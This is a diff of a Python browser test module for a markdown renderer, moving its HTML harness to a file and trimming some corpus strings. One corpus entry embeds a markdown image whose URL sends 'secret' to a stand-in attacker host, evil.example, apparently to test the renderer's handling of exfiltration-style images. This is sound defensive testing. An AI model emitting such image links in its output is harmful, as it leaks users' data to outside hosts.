@@ -2,24 +2,24 @@
 
 import random
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, Page
 
 from orchestration.markdown import render_markdown
-from orchestration.templatetags.rex_static import BARE
-from tests.frontend.stage import Stage
+from tests.frontend.stage import Stage, serve
 
 pytestmark = pytest.mark.browser
 
 CORPUS = {
-    "prose": "One *line*\nand another.\n\nA **new** paragraph with `code` and a [link](https://a.example/b?c=d&e).",
+    "prose": "One *line*\nand another.\n\nA **new** one, `code`, a [link](https://a.example/?c=d&e).",
     "headings": "# One\n\n## Two\ntext right after\n\nSetext\n======\n\nThree\n-----\nend",
-    "lists": "- a\n- b\n  - c\n\n    in c\n- d\n\n1. one\n2. two\n\n   para\n\n7. seven\n* other\n* list",
+    "lists": "- a\n- b\n  - c\n\n    in c\n- d\n\n1. one\n2. two\n\n   para\n\n7. seven\n* other",
     "emphasis that continues a list": "- item\n*em* goes on\n\n- x\n**bold** too\n",
     "tasks": "- [ ] open\n- [x] closed\n",
-    "fences": "before\n```python\ndef f():\n\n    return '```'\n```\nafter\n~~~\n``` not a fence\n~~~~\nend",
+    "fences": "before\n```python\ndef f():\n\n    return '```'\n```\nthen\n~~~\n``` no\n~~~~\nend",
     "open fence": "text\n```js\nlet a = 1;\nlet b",
     "long fence": "```\n" + "line of code\n" * 80 + "```\ndone\n",
     "indented fence": "- a\n  ```\n  x\n  ```\n- b\n\n  ```\n  y\n  ```",
@@ -34,35 +34,13 @@ CORPUS = {
     "image": "before ![alt *text*](https://evil.example/?q=secret) after",
 }
 
-HARNESS = f"""<!doctype html><meta charset="utf-8"><title>x</title>
-<script type="importmap" nonce="stage">{{"imports": {{"marked": "/static/{BARE["marked"]}"}}}}</script>
-<div id="out"></div>
-<script type="module" nonce="stage">
-import {{Incremental, render}} from "/static/rex/js/markdown.js";
-window.whole = (text) => {{ const box = document.createElement("div"); box.append(render(text)); return box.innerHTML; }};
-window.grown = (text, sizes, finish) => {{
-  const box = document.createElement("div");
-  const growing = new Incremental(box);
-  for (let at = 0, n = 0; at < text.length; n += 1) {{
-    const size = sizes[n % sizes.length];
-    growing.push(text.slice(at, at + size));
-    growing.draw();
-    at += size;
-  }}
-  if (finish) growing.finish();
-  return box.innerHTML;
-}};
-window.Incremental = Incremental;
-window.ready = true;
-</script>"""
+PAGE = Path(__file__).with_name("markdown_page.html")
 
 
 @pytest.fixture(scope="module")
 def markdown(chromium: Browser) -> Iterator[Page]:
     """A page on which markdown.js is loaded, under the product's own policy."""
-    from tests.frontend.stage import serve
-
-    with serve(Stage(pages={"/": HARNESS})) as stage:
+    with serve(Stage(pages={"/": PAGE.read_text()})) as stage:
         page = chromium.new_page()
         page.goto(stage.url)
         page.wait_for_function("() => window.ready")
